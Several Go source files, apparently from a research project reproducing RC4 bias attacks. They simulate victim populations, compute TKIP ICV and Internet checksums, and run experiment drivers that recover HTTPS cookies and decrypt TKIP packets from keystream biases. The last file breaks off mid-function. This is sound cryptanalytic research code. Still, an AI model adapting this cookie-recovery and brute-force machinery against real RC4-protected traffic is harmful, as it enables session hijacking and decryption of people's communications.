func NewStreamWriter(w trace.PacketWriter, linkType uint32) (*trace.TCPStreamWriter, error) {
	return trace.NewTCPStreamWriter(w, linkType, HTTPSFlow())
}

// WriteTrace seals the victim's next n requests into a capture as TCP
// segments instead of handing the records to an in-process collector. The
// connection's RC4 stream and sequence number advance exactly as n
// SendRequest calls would.
func (v *HTTPSVictim) WriteTrace(sw *trace.TCPStreamWriter, n uint64) error {
	for i := uint64(0); i < n; i++ {
		if err := sw.WriteStream(v.SendRequest()); err != nil {
			return err
		}
	}
	return nil
}
