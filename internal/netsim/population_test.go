package netsim

import (
	"reflect"
	"testing"
)

func TestPopulationDeterministic(t *testing.T) {
	cfg := PopulationConfig{Victims: 12, Tenants: 3, Seed: 42, TKIPEvery: 4, MaxJitterMS: 50}
	a := Population(cfg)
	b := Population(cfg)
	if !reflect.DeepEqual(a, b) {
		t.Fatal("equal configs must generate identical populations")
	}
	if len(a) != 12 {
		t.Fatalf("got %d victims, want 12", len(a))
	}
}

func TestPopulationShape(t *testing.T) {
	cfg := PopulationConfig{Victims: 12, Tenants: 3, Seed: 7, TKIPEvery: 4, CookieLens: []int{6, 8}, MaxJitterMS: 50}
	pop := Population(cfg)

	seeds := make(map[int64]bool)
	secrets := make(map[string]bool)
	var cookieLens []int
	for i, v := range pop {
		if v.Index != i {
			t.Fatalf("victim %d has Index %d", i, v.Index)
		}
		if want := "tenant-" + string(rune('0'+i%3)); v.Tenant != want {
			t.Fatalf("victim %d tenant %q, want %q", i, v.Tenant, want)
		}
		if seeds[v.Seed] {
			t.Fatalf("duplicate victim seed %d", v.Seed)
		}
		seeds[v.Seed] = true
		if v.JitterMS < 0 || v.JitterMS >= 50 {
			t.Fatalf("victim %d jitter %d out of [0,50)", i, v.JitterMS)
		}
		if (i+1)%4 == 0 {
			if v.Attack != "tkip" || v.Secret != "" || v.CookieLen != 0 {
				t.Fatalf("victim %d should be a bare TKIP station: %+v", i, v)
			}
			continue
		}
		if v.Attack != "cookie" || len(v.Secret) != v.CookieLen {
			t.Fatalf("victim %d malformed cookie victim: %+v", i, v)
		}
		secrets[v.Secret] = true
		cookieLens = append(cookieLens, v.CookieLen)
	}
	// Cookie lengths cycle over the configured set.
	for i, l := range cookieLens {
		if want := []int{6, 8}[i%2]; l != want {
			t.Fatalf("cookie victim %d length %d, want %d", i, l, want)
		}
	}
	if len(secrets) < 2 {
		t.Fatal("secrets should differ across victims")
	}
}

func TestPopulationSeedsStableAcrossTKIPMix(t *testing.T) {
	// The master RNG draws one seed per victim regardless of attack kind,
	// so toggling TKIPEvery must not shift other victims' stream seeds.
	with := Population(PopulationConfig{Victims: 8, Seed: 9, TKIPEvery: 4})
	without := Population(PopulationConfig{Victims: 8, Seed: 9})
	for i := range with {
		if with[i].Seed != without[i].Seed {
			t.Fatalf("victim %d seed changed with TKIP mix: %d vs %d", i, with[i].Seed, without[i].Seed)
		}
	}
}
