// Package checksum provides the integrity checksums the TKIP attack prunes
// candidates with (§5.3): the CRC-32 Integrity Check Value appended to every
// TKIP MPDU, and the one's-complement Internet checksums of the IP and TCP
// headers. The attack exploits exactly this redundancy — a decryption
// candidate whose ICV (or IP/TCP checksum) does not verify cannot be the
// true plaintext, so candidate lists can be walked until a consistent packet
// appears.
package checksum

import (
	"encoding/binary"
	"hash/crc32"
)

// ICVSize is the size of the TKIP/WEP Integrity Check Value in bytes.
const ICVSize = 4

// ICV computes the 4-byte TKIP Integrity Check Value over data: the IEEE
// CRC-32 serialized little-endian, as appended (before encryption) to the
// MPDU payload in WEP and TKIP.
func ICV(data []byte) [ICVSize]byte {
	var icv [ICVSize]byte
	binary.LittleEndian.PutUint32(icv[:], crc32.ChecksumIEEE(data))
	return icv
}

// VerifyICV reports whether the final 4 bytes of packet are the correct ICV
// of everything before them. It returns false for packets shorter than the
// ICV itself.
func VerifyICV(packet []byte) bool {
	if len(packet) < ICVSize {
		return false
	}
	body := packet[:len(packet)-ICVSize]
	want := ICV(body)
	got := packet[len(packet)-ICVSize:]
	return want[0] == got[0] && want[1] == got[1] && want[2] == got[2] && want[3] == got[3]
}

// Internet computes the 16-bit one's-complement Internet checksum (RFC 1071)
// over data, as used in the IPv4 header and the TCP pseudo-header sum. An
// odd trailing byte is padded with zero, per the RFC.
func Internet(data []byte) uint16 {
	var sum uint32
	n := len(data) &^ 1
	for i := 0; i < n; i += 2 {
		sum += uint32(binary.BigEndian.Uint16(data[i:]))
	}
	if len(data)%2 == 1 {
		sum += uint32(data[len(data)-1]) << 8
	}
	for sum>>16 != 0 {
		sum = sum&0xffff + sum>>16
	}
	return ^uint16(sum)
}

// InternetValid reports whether data (with its embedded checksum field left
// in place) sums to the all-ones complement, i.e. verifies.
func InternetValid(data []byte) bool {
	return Internet(data) == 0
}
