package checksum

import (
	"encoding/binary"
	"testing"
	"testing/quick"
)

func TestICVKnownValue(t *testing.T) {
	// CRC-32/IEEE of "123456789" is 0xCBF43926.
	icv := ICV([]byte("123456789"))
	if got := binary.LittleEndian.Uint32(icv[:]); got != 0xCBF43926 {
		t.Errorf("ICV = %#x, want 0xCBF43926", got)
	}
}

func TestVerifyICV(t *testing.T) {
	body := []byte("the packet body to protect")
	icv := ICV(body)
	pkt := append(append([]byte{}, body...), icv[:]...)
	if !VerifyICV(pkt) {
		t.Fatal("valid packet rejected")
	}
	pkt[3] ^= 0x01
	if VerifyICV(pkt) {
		t.Fatal("corrupted packet accepted")
	}
	if VerifyICV([]byte{1, 2, 3}) {
		t.Fatal("short packet accepted")
	}
}

func TestVerifyICVProperty(t *testing.T) {
	// Any body with its true ICV verifies; flipping any single bit breaks it.
	f := func(body []byte, bit uint16) bool {
		icv := ICV(body)
		pkt := append(append([]byte{}, body...), icv[:]...)
		if !VerifyICV(pkt) {
			return false
		}
		i := int(bit) % (len(pkt) * 8)
		pkt[i/8] ^= 1 << (i % 8)
		return !VerifyICV(pkt)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestInternetChecksumRFC1071Example(t *testing.T) {
	// RFC 1071 example: 00 01 f2 03 f4 f5 f6 f7 -> sum 0xddf2, checksum ^0xddf2.
	data := []byte{0x00, 0x01, 0xf2, 0x03, 0xf4, 0xf5, 0xf6, 0xf7}
	if got := Internet(data); got != ^uint16(0xddf2) {
		t.Errorf("Internet = %#x, want %#x", got, ^uint16(0xddf2))
	}
}

func TestInternetOddLength(t *testing.T) {
	// Odd byte padded with zero: [0x12, 0x34, 0x56] == [0x12 0x34 0x56 0x00].
	odd := Internet([]byte{0x12, 0x34, 0x56})
	even := Internet([]byte{0x12, 0x34, 0x56, 0x00})
	if odd != even {
		t.Errorf("odd %#x != padded even %#x", odd, even)
	}
}

func TestInternetValidRoundTrip(t *testing.T) {
	// Writing the computed checksum into a zeroed field yields a datagram
	// that validates — exactly how the attack checks candidate IP headers.
	f := func(data []byte) bool {
		if len(data) < 4 {
			return true
		}
		hdr := append([]byte{}, data...)
		hdr[2], hdr[3] = 0, 0 // pretend bytes 2:4 are the checksum field
		ck := Internet(hdr)
		binary.BigEndian.PutUint16(hdr[2:], ck)
		return InternetValid(hdr)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 300}); err != nil {
		t.Error(err)
	}
}

func TestInternetEmpty(t *testing.T) {
	if got := Internet(nil); got != 0xffff {
		t.Errorf("checksum of empty = %#x, want 0xffff", got)
	}
}

func BenchmarkICV60(b *testing.B) {
	data := make([]byte, 60)
	b.SetBytes(60)
	for n := 0; n < b.N; n++ {
		ICV(data)
	}
}

func BenchmarkInternet20(b *testing.B) {
	data := make([]byte, 20)
	b.SetBytes(20)
	for n := 0; n < b.N; n++ {
		Internet(data)
	}
}
