package experiments

import (
	"math"
	"math/rand"

	"rc4break/internal/biases"
	"rc4break/internal/recovery"
)

// PairRecoveryMode selects which bias evidence the Figure 7 simulation
// feeds the likelihood machinery.
type PairRecoveryMode int

// The three Figure 7 curves.
const (
	ModeFMOnly PairRecoveryMode = iota
	ModeABSABOnly
	ModeCombined
)

// simulatePairEvidence builds the evidence tables for one trial of the
// Figure 7 experiment: two unknown bytes surrounded by known plaintext,
// observed in n ciphertexts. FM evidence is the digraph histogram at the
// pair's PRGA counter; ABSAB evidence uses gaps 0..maxGap on both sides
// (2·(maxGap+1) anchors), sampled via the same sufficient-statistic
// approach as cookieattack.SimulateStatistics.
func simulatePairEvidence(rng *rand.Rand, mode PairRecoveryMode, truth1, truth2 byte, i int, n uint64, maxGap int) *recovery.PairLikelihoods {
	nf := float64(n)
	lk := new(recovery.PairLikelihoods)

	if mode == ModeFMOnly || mode == ModeCombined {
		dist := biases.FMDistribution(i)
		hist := make([]uint64, 65536)
		for c1 := 0; c1 < 256; c1++ {
			z1 := c1 ^ int(truth1)
			for c2 := 0; c2 < 256; c2++ {
				mean := nf * dist[z1*256+(c2^int(truth2))]
				v := mean + math.Sqrt(mean)*rng.NormFloat64()
				if v < 0 {
					v = 0
				}
				hist[c1*256+c2] = uint64(v + 0.5)
			}
		}
		fm, err := recovery.FMPairLikelihoods(hist, i)
		if err == nil {
			lk.Add(fm)
		}
	}

	if mode == ModeABSABOnly || mode == ModeCombined {
		gaps := maxGap + 1
		if mode == ModeABSABOnly {
			gaps = 1 // the paper's "one ABSAB bias" curve uses a single gap
		}
		var hitW, missMean, missVar float64
		for side := 0; side < 2; side++ {
			for g := 0; g < gaps; g++ {
				w := recovery.ABSABWeight(g)
				beta := biases.ABSABCopyProb(g)
				mean := nf * beta
				hits := mean + math.Sqrt(mean*(1-beta))*rng.NormFloat64()
				if hits < 0 {
					hits = 0
				}
				hitW += hits * w
				misses := nf - hits
				missMean += w * misses / 65536
				missVar += w * w * misses / 65536
			}
			if mode == ModeABSABOnly {
				break // single anchor total
			}
		}
		sd := math.Sqrt(missVar)
		for c := range lk {
			v := missMean + sd*rng.NormFloat64()
			if v < 0 {
				v = 0
			}
			lk[c] += v
		}
		lk[int(truth1)*256+int(truth2)] += hitW
	}
	return lk
}

// Figure7 reproduces the Fig. 7 simulation: the success rate of decrypting
// two bytes with (1) one ABSAB bias, (2) the FM biases, and (3) FM combined
// with 2·(maxGap+1) ABSAB biases, as a function of the ciphertext count.
// ciphertexts lists the x-axis points (the paper sweeps 2^27..2^39); trials
// controls the per-point simulation count (the paper uses 2048).
func Figure7(seed int64, ciphertexts []uint64, trials, maxGap int) Result {
	if len(ciphertexts) == 0 {
		ciphertexts = []uint64{1 << 27, 1 << 29, 1 << 31, 1 << 33, 1 << 35}
	}
	if maxGap <= 0 {
		maxGap = biases.MaxUsefulGap
	}
	rng := rand.New(rand.NewSource(seed))
	res := Result{
		ID:      "Figure 7",
		Title:   "Success rate of decrypting two bytes (per ciphertext count)",
		Columns: []string{"ABSAB only", "FM only", "Combined"},
		Notes:   "paper shape: combined >> FM only > one ABSAB; at our simulation fidelity combined reaches ~100% near 2^33",
	}
	modes := []PairRecoveryMode{ModeABSABOnly, ModeFMOnly, ModeCombined}
	for _, n := range ciphertexts {
		vals := make([]float64, len(modes))
		for mi, mode := range modes {
			succ := 0
			for t := 0; t < trials; t++ {
				truth1 := byte(rng.Intn(256))
				truth2 := byte(rng.Intn(256))
				i := rng.Intn(256)
				lk := simulatePairEvidence(rng, mode, truth1, truth2, i, n, maxGap)
				m1, m2 := lk.Best()
				if m1 == truth1 && m2 == truth2 {
					succ++
				}
			}
			vals[mi] = float64(succ) / float64(trials)
		}
		res.Rows = append(res.Rows, Row{Label: "2^" + itoa(log2int(n)), Values: vals})
	}
	return res
}

func log2int(n uint64) int {
	l := 0
	for n > 1 {
		n >>= 1
		l++
	}
	return l
}
