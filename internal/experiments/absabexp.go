package experiments

import (
	"context"
	"errors"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/stats"
)

// errIncompatibleTally is returned by the experiment sinks' Merge on a type
// mismatch.
var errIncompatibleTally = errors.New("experiments: incompatible tally merge")

// absabTally counts, per gap, digraph coincidences within engine windows of
// 256-byte blocks plus a maxGap+4-byte overlap: the block under scan is
// win[0:256] and the overlap provides the lookahead for the second digraph
// of the largest gap.
type absabTally struct {
	gaps  []int
	hits  []uint64
	total []uint64
}

func (t *absabTally) Window(win []byte) {
	for r := 0; r+3 <= 256; r++ {
		for gi, g := range t.gaps {
			s := r + 2 + g
			if win[r] == win[s] && win[r+1] == win[s+1] {
				t.hits[gi]++
			}
			t.total[gi]++
		}
	}
}

func (t *absabTally) Merge(other dataset.Sink) error {
	o, ok := other.(*absabTally)
	if !ok || len(o.hits) != len(t.hits) {
		return errIncompatibleTally
	}
	for i := range t.hits {
		t.hits[i] += o.hits[i]
		t.total[i] += o.total[i]
	}
	return nil
}

// ABSABGapVerification reproduces the §4.2 measurement behind "we
// empirically confirmed Mantin's ABSAB bias up to gap sizes of at least
// 135": generate long-term keystream blocks and count, per gap g, how often
// the digraph repeats after g intervening bytes. Reported per gap: the
// measured coincidence probability (×2^16), eq. 1's model value, and the
// proportion-test z against uniform. The paper also notes the theoretical
// estimate slightly underpredicts the true bias — visible here at larger
// sample sizes.
func ABSABGapVerification(ctx context.Context, master [16]byte, keys, blocks int, gaps []int, workers int) (Result, error) {
	if len(gaps) == 0 {
		gaps = []int{0, 1, 2, 4, 8, 16, 32, 64, 128}
	}
	maxGap := 0
	for _, g := range gaps {
		if g > maxGap {
			maxGap = g
		}
	}

	tot := &absabTally{gaps: gaps, hits: make([]uint64, len(gaps)), total: make([]uint64, len(gaps))}
	if keys > 0 && blocks > 0 {
		shards := dataset.SplitKeys(uint64(keys), workers, absabLaneOffset)
		sink, err := dataset.Engine{Workers: workers}.Run(ctx, dataset.Stream{
			// The scanned block is the window head; the overlap supplies
			// the second digraph of the largest gap (r+2+g+1 lookahead).
			Master: master, Skip: 1023, Overlap: maxGap + 4, BlockLen: 256, Blocks: blocks,
		}, shards, func(int) dataset.Sink {
			return &absabTally{gaps: gaps, hits: make([]uint64, len(gaps)), total: make([]uint64, len(gaps))}
		})
		if err != nil {
			return Result{}, err
		}
		tot = sink.(*absabTally)
	}

	res := Result{
		ID:      "§4.2",
		Title:   "Mantin ABSAB coincidence probability by gap",
		Columns: []string{"measured*2^16", "eq.1 model*2^16", "z-vs-uniform"},
		Notes:   "all gaps should trend positive; the relative bias decays as e^{-8g/256}",
	}
	for gi, g := range gaps {
		meas := float64(tot.hits[gi]) / float64(tot.total[gi])
		var z float64
		if r, err := stats.ProportionTest(tot.hits[gi], tot.total[gi], biases.UPair); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  "g=" + itoa(g),
			Values: []float64{meas * 65536, biases.ABSABAlpha(g) * 65536, z},
		})
	}
	return res, nil
}

// eqTally counts position-equality events within 256-byte blocks for the
// eq. 9 scan.
type eqTally struct {
	pairs [][2]int
	hits  []uint64
	total uint64
}

func (t *eqTally) Window(win []byte) {
	// win[j] = Z_{256w + j + 1}; offsets in pairs are relative to the
	// block start (offset 0 = Z_{256w+1}).
	for pi, p := range t.pairs {
		if win[p[0]] == win[p[1]] {
			t.hits[pi]++
		}
	}
	t.total++
}

func (t *eqTally) Merge(other dataset.Sink) error {
	o, ok := other.(*eqTally)
	if !ok || len(o.hits) != len(t.hits) {
		return errIncompatibleTally
	}
	for i := range t.hits {
		t.hits[i] += o.hits[i]
	}
	t.total += o.total
	return nil
}

// Equation9Search looks for the eq. 9 long-term equality biases
// Pr[Z_{256w+a} = Z_{256w+b}] ≈ 2^-8 (1 ± 2^-16): it measures the equality
// probability for a sample of (a, b) offsets within 256-byte blocks far
// from the keystream start. The individual relative biases (2^-16) are far
// below laptop-scale resolution — the paper itself calls reliably detecting
// them an open direction — so the driver reports the measured probabilities
// with their z statistics, demonstrating the methodology.
func Equation9Search(ctx context.Context, master [16]byte, keys, blocks int, pairs [][2]int, workers int) (Result, error) {
	if len(pairs) == 0 {
		pairs = [][2]int{{0, 2}, {0, 16}, {1, 129}, {5, 250}}
	}
	tot := &eqTally{pairs: pairs, hits: make([]uint64, len(pairs))}
	if keys > 0 && blocks > 0 {
		shards := dataset.SplitKeys(uint64(keys), workers, eq9LaneOffset)
		sink, err := dataset.Engine{Workers: workers}.Run(ctx, dataset.Stream{
			// Skip 1024 so each block starts at Z_{256w+1}.
			Master: master, Skip: 1024, BlockLen: 256, Blocks: blocks,
		}, shards, func(int) dataset.Sink {
			return &eqTally{pairs: pairs, hits: make([]uint64, len(pairs))}
		})
		if err != nil {
			return Result{}, err
		}
		tot = sink.(*eqTally)
	}
	res := Result{
		ID:      "Eq. 9",
		Title:   "Long-term equality probabilities Pr[Z_{256w+a} = Z_{256w+b}]",
		Columns: []string{"measured*2^8", "z-vs-uniform"},
		Notes:   "relative biases here are ±2^-16 — resolving them needs ~2^40 blocks; this driver demonstrates the measurement the paper leaves as future work",
	}
	for pi, p := range pairs {
		meas := float64(tot.hits[pi]) / float64(tot.total)
		var z float64
		if r, err := stats.ProportionTest(tot.hits[pi], tot.total, biases.USingle); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  "a=" + itoa(p[0]) + " b=" + itoa(p[1]),
			Values: []float64{meas * 256, z},
		})
	}
	return res, nil
}
