package experiments

import (
	"runtime"
	"sync"

	"rc4break/internal/biases"
	"rc4break/internal/dataset"
	"rc4break/internal/rc4"
	"rc4break/internal/stats"
)

// ABSABGapVerification reproduces the §4.2 measurement behind "we
// empirically confirmed Mantin's ABSAB bias up to gap sizes of at least
// 135": generate long-term keystream blocks and count, per gap g, how often
// the digraph repeats after g intervening bytes. Reported per gap: the
// measured coincidence probability (×2^16), eq. 1's model value, and the
// proportion-test z against uniform. The paper also notes the theoretical
// estimate slightly underpredicts the true bias — visible here at larger
// sample sizes.
func ABSABGapVerification(master [16]byte, keys, blocks int, gaps []int, workers int) (Result, error) {
	if len(gaps) == 0 {
		gaps = []int{0, 1, 2, 4, 8, 16, 32, 64, 128}
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > keys {
		workers = keys
	}
	maxGap := 0
	for _, g := range gaps {
		if g > maxGap {
			maxGap = g
		}
	}
	blockLen := 256

	type tally struct {
		hits  []uint64
		total []uint64
	}
	results := make([]tally, workers)
	var wg sync.WaitGroup
	per := keys / workers
	extra := keys % workers
	for w := 0; w < workers; w++ {
		n := per
		if w < extra {
			n++
		}
		results[w] = tally{hits: make([]uint64, len(gaps)), total: make([]uint64, len(gaps))}
		wg.Add(1)
		go func(w int, lane uint64, n int) {
			defer wg.Done()
			ta := &results[w]
			src := dataset.NewKeySource(master, lane)
			key := make([]byte, 16)
			// Window big enough for the largest gap's second digraph.
			buf := make([]byte, blockLen+maxGap+4)
			for k := 0; k < n; k++ {
				src.NextKey(key)
				c := rc4.MustNew(key)
				c.Skip(1023)
				c.Keystream(buf)
				for b := 0; b < blocks; b++ {
					for r := 0; r+3 <= blockLen; r++ {
						for gi, g := range gaps {
							s := r + 2 + g
							if buf[r] == buf[s] && buf[r+1] == buf[s+1] {
								ta.hits[gi]++
							}
							ta.total[gi]++
						}
					}
					// Slide the window: keep the tail needed for gaps.
					copy(buf, buf[blockLen:])
					c.Keystream(buf[maxGap+4:])
				}
			}
		}(w, uint64(w)+4000, n)
	}
	wg.Wait()
	hits := make([]uint64, len(gaps))
	total := make([]uint64, len(gaps))
	for _, ta := range results {
		for i := range gaps {
			hits[i] += ta.hits[i]
			total[i] += ta.total[i]
		}
	}
	res := Result{
		ID:      "§4.2",
		Title:   "Mantin ABSAB coincidence probability by gap",
		Columns: []string{"measured*2^16", "eq.1 model*2^16", "z-vs-uniform"},
		Notes:   "all gaps should trend positive; the relative bias decays as e^{-8g/256}",
	}
	for gi, g := range gaps {
		meas := float64(hits[gi]) / float64(total[gi])
		var z float64
		if r, err := stats.ProportionTest(hits[gi], total[gi], biases.UPair); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  "g=" + itoa(g),
			Values: []float64{meas * 65536, biases.ABSABAlpha(g) * 65536, z},
		})
	}
	return res, nil
}

// Equation9Search looks for the eq. 9 long-term equality biases
// Pr[Z_{256w+a} = Z_{256w+b}] ≈ 2^-8 (1 ± 2^-16): it measures the equality
// probability for a sample of (a, b) offsets within 256-byte blocks far
// from the keystream start. The individual relative biases (2^-16) are far
// below laptop-scale resolution — the paper itself calls reliably detecting
// them an open direction — so the driver reports the measured probabilities
// with their z statistics, demonstrating the methodology.
func Equation9Search(master [16]byte, keys, blocks int, pairs [][2]int, workers int) (Result, error) {
	if len(pairs) == 0 {
		pairs = [][2]int{{0, 2}, {0, 16}, {1, 129}, {5, 250}}
	}
	if workers <= 0 {
		workers = runtime.GOMAXPROCS(0)
	}
	if workers > keys {
		workers = keys
	}
	type tally struct {
		hits  []uint64
		total uint64
	}
	results := make([]tally, workers)
	var wg sync.WaitGroup
	per := keys / workers
	extra := keys % workers
	for w := 0; w < workers; w++ {
		n := per
		if w < extra {
			n++
		}
		results[w] = tally{hits: make([]uint64, len(pairs))}
		wg.Add(1)
		go func(w int, lane uint64, n int) {
			defer wg.Done()
			ta := &results[w]
			src := dataset.NewKeySource(master, lane)
			key := make([]byte, 16)
			buf := make([]byte, 256)
			for k := 0; k < n; k++ {
				src.NextKey(key)
				c := rc4.MustNew(key)
				c.Skip(1024) // next byte is Z_1025 = Z_{256w+1} with offset 1
				for b := 0; b < blocks; b++ {
					c.Keystream(buf)
					// buf[j] = Z_{256w + j + 1}; offsets in pairs are
					// relative to the block start (offset 0 = Z_{256w+1}).
					for pi, p := range pairs {
						if buf[p[0]] == buf[p[1]] {
							ta.hits[pi]++
						}
					}
					ta.total++
				}
			}
		}(w, uint64(w)+5000, n)
	}
	wg.Wait()
	hits := make([]uint64, len(pairs))
	var total uint64
	for _, ta := range results {
		for i := range pairs {
			hits[i] += ta.hits[i]
		}
		total += ta.total
	}
	res := Result{
		ID:      "Eq. 9",
		Title:   "Long-term equality probabilities Pr[Z_{256w+a} = Z_{256w+b}]",
		Columns: []string{"measured*2^8", "z-vs-uniform"},
		Notes:   "relative biases here are ±2^-16 — resolving them needs ~2^40 blocks; this driver demonstrates the measurement the paper leaves as future work",
	}
	for pi, p := range pairs {
		meas := float64(hits[pi]) / float64(total)
		var z float64
		if r, err := stats.ProportionTest(hits[pi], total, biases.USingle); err == nil {
			z = r.Statistic
		}
		res.Rows = append(res.Rows, Row{
			Label:  "a=" + itoa(p[0]) + " b=" + itoa(p[1]),
			Values: []float64{meas * 256, z},
		})
	}
	return res, nil
}
