package experiments

import (
	"bytes"
	"math/rand"

	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
)

// CookieParams controls the Figure 10 simulation.
type CookieParams struct {
	// Ciphertexts lists x-axis points; the paper sweeps 1·2^27 .. 15·2^27.
	Ciphertexts []uint64
	// Trials per point (the paper uses 256).
	Trials int
	// Candidates is the brute-force list depth (the paper uses 2^23; the
	// default is smaller — shape is preserved, see EXPERIMENTS.md).
	Candidates int
	MaxGap     int
	Seed       int64
}

func (p CookieParams) withDefaults() CookieParams {
	if len(p.Ciphertexts) == 0 {
		p.Ciphertexts = []uint64{1 << 27, 3 << 27, 5 << 27, 9 << 27, 15 << 27}
	}
	if p.Trials == 0 {
		p.Trials = 16
	}
	if p.Candidates == 0 {
		p.Candidates = 1 << 12
	}
	if p.MaxGap == 0 {
		p.MaxGap = 128
	}
	return p
}

// Figure10 reproduces the cookie brute-force success curve: per ciphertext
// count, the probability that a 16-character cookie is recovered within the
// candidate list, and within the single most likely candidate (the paper's
// two curves). Also reported: hours of traffic at the §6.3 request rate.
func Figure10(p CookieParams) (Result, error) {
	p = p.withDefaults()
	rng := rand.New(rand.NewSource(p.Seed))
	charset := httpmodel.CookieCharset()

	res := Result{
		ID:      "Figure 10",
		Title:   "Cookie brute-force success vs ciphertext copies (16-char cookie)",
		Columns: []string{"success(list)", "success(top1)", "hours@4450rps"},
		Notes:   "paper: >94% with 2^23 candidates at 9x2^27; top-1 much lower; our default list depth is smaller, shifting the curve slightly right",
	}
	for _, n := range p.Ciphertexts {
		var okList, okTop1 int
		for t := 0; t < p.Trials; t++ {
			secret := randomCookie(rng, charset, 16)
			req, counterBase, err := netsim.AlignedRequest("site.com", "auth", string(secret), 64)
			if err != nil {
				return Result{}, err
			}
			attack, err := cookieattack.New(cookieattack.Config{
				CookieLen:   16,
				Offset:      req.CookieOffset(),
				Plaintext:   req.Marshal(),
				CounterBase: counterBase,
				MaxGap:      p.MaxGap,
				Charset:     charset,
			})
			if err != nil {
				return Result{}, err
			}
			if err := attack.SimulateStatistics(rng, secret, n); err != nil {
				return Result{}, err
			}
			cands, err := attack.Candidates(p.Candidates)
			if err != nil {
				return Result{}, err
			}
			for i, c := range cands {
				if bytes.Equal(c.Plaintext, secret) {
					okList++
					if i == 0 {
						okTop1++
					}
					break
				}
			}
		}
		hours := float64(n) / netsim.HTTPSRequestsPerSecond / 3600
		res.Rows = append(res.Rows, Row{
			Label: itoa(int(n>>27)) + "x2^27",
			Values: []float64{
				float64(okList) / float64(p.Trials),
				float64(okTop1) / float64(p.Trials),
				hours,
			},
		})
	}
	return res, nil
}

func randomCookie(rng *rand.Rand, charset []byte, n int) []byte {
	out := make([]byte, n)
	for i := range out {
		out[i] = charset[rng.Intn(len(charset))]
	}
	return out
}

// CharsetAblation is the §6.2 ablation: candidate-list success with the
// RFC 6265 90-character restriction versus the full 256-value byte space,
// at a fixed ciphertext count.
func CharsetAblation(seed int64, n uint64, trials, candidates int) (Result, error) {
	rng := rand.New(rand.NewSource(seed))
	charset := httpmodel.CookieCharset()
	res := Result{
		ID:      "§6.2 ablation",
		Title:   "Candidate-list success: RFC 6265 charset vs full byte space",
		Columns: []string{"success rate"},
		Notes:   "restricting Algorithm 2 to the 90-character cookie alphabet shrinks the search space ~2.8x per byte",
	}
	for _, mode := range []struct {
		label   string
		charset []byte
	}{
		{"charset=90", charset},
		{"charset=256", nil},
	} {
		ok := 0
		for t := 0; t < trials; t++ {
			secret := randomCookie(rng, charset, 16)
			req, counterBase, err := netsim.AlignedRequest("site.com", "auth", string(secret), 64)
			if err != nil {
				return Result{}, err
			}
			attack, err := cookieattack.New(cookieattack.Config{
				CookieLen:   16,
				Offset:      req.CookieOffset(),
				Plaintext:   req.Marshal(),
				CounterBase: counterBase,
				MaxGap:      128,
				Charset:     mode.charset,
			})
			if err != nil {
				return Result{}, err
			}
			if err := attack.SimulateStatistics(rng, secret, n); err != nil {
				return Result{}, err
			}
			cands, err := attack.Candidates(candidates)
			if err != nil {
				return Result{}, err
			}
			for _, c := range cands {
				if bytes.Equal(c.Plaintext, secret) {
					ok++
					break
				}
			}
		}
		res.Rows = append(res.Rows, Row{Label: mode.label, Values: []float64{float64(ok) / float64(trials)}})
	}
	return res, nil
}
