package experiments

import (
	"errors"
	"math/rand"
	"sort"

	"rc4break/internal/cliutil"
	"rc4break/internal/cookieattack"
	"rc4break/internal/httpmodel"
	"rc4break/internal/netsim"
	"rc4break/internal/online"
)

// OnlineCookieParams controls the records-to-success experiment.
type OnlineCookieParams struct {
	// Trials per curve (each trial draws a fresh random cookie).
	Trials int
	// Budget is the observation cap per trial (the fixed-budget baseline
	// the online runs are compared against); default 9·2^27.
	Budget uint64
	// First and Every select the decode cadence (geometric from First when
	// Every is 0); default First 2^24.
	First, Every uint64
	// Candidates is the per-round list depth; default 2^12.
	Candidates int
	MaxGap     int
	Seed       int64
	Workers    int
}

func (p OnlineCookieParams) withDefaults() OnlineCookieParams {
	if p.Trials == 0 {
		p.Trials = 8
	}
	if p.Budget == 0 {
		p.Budget = 9 << 27
	}
	if p.First == 0 {
		p.First = 1 << 24
	}
	if p.Candidates == 0 {
		p.Candidates = 1 << 12
	}
	if p.MaxGap == 0 {
		p.MaxGap = 128
	}
	return p
}

// OnlineCookieRecords measures the online §6 attack's records-to-first-
// success distribution — the online counterpart of Figure 10. Where the
// figure reports P[success] after a fixed ciphertext budget, this runs the
// closed loop per trial (decode at each cadence point, brute-force the
// round's list against the server, stop at the first confirmed cookie) and
// reports, per decode point, the cumulative fraction of trials finished by
// then, plus the distribution's summary (median records-to-success and the
// mean budget saving).
func OnlineCookieRecords(p OnlineCookieParams) (Result, error) {
	p = p.withDefaults()
	rng := rand.New(rand.NewSource(p.Seed))
	charset := httpmodel.CookieCharset()
	cad := online.Cadence{First: p.First, Every: p.Every}

	// The cadence points every trial decodes at (absolute, shared).
	var points []uint64
	for obs := uint64(0); obs < p.Budget; {
		next := cad.Next(obs)
		if next >= p.Budget {
			next = p.Budget
		}
		points = append(points, next)
		obs = next
	}

	succeededAt := make([]uint64, 0, p.Trials) // records at success, per successful trial
	ranks := make([]int, 0, p.Trials)
	perPoint := make([]int, len(points)) // successes landing at each decode point
	for t := 0; t < p.Trials; t++ {
		secret := randomCookie(rng, charset, 16)
		req, counterBase, err := netsim.AlignedRequest("site.com", "auth", string(secret), 64)
		if err != nil {
			return Result{}, err
		}
		attack, err := cookieattack.New(cookieattack.Config{
			CookieLen:   16,
			Offset:      req.CookieOffset(),
			Plaintext:   req.Marshal(),
			CounterBase: counterBase,
			MaxGap:      p.MaxGap,
			Charset:     charset,
		})
		if err != nil {
			return Result{}, err
		}
		attack.Workers = p.Workers
		server := &netsim.CookieServer{Secret: secret}
		trialSeed := p.Seed + int64(t)*7919
		res, err := online.Run(online.Config{
			Decoder:       attack,
			Oracle:        server,
			Cadence:       cad,
			MaxCandidates: p.Candidates,
			Budget:        p.Budget,
			CaptureTo: func(target uint64) error {
				rng := rand.New(rand.NewSource(cliutil.ContinuationSeed(trialSeed, attack.Records)))
				return attack.SimulateStatistics(rng, secret, target-attack.Records)
			},
		})
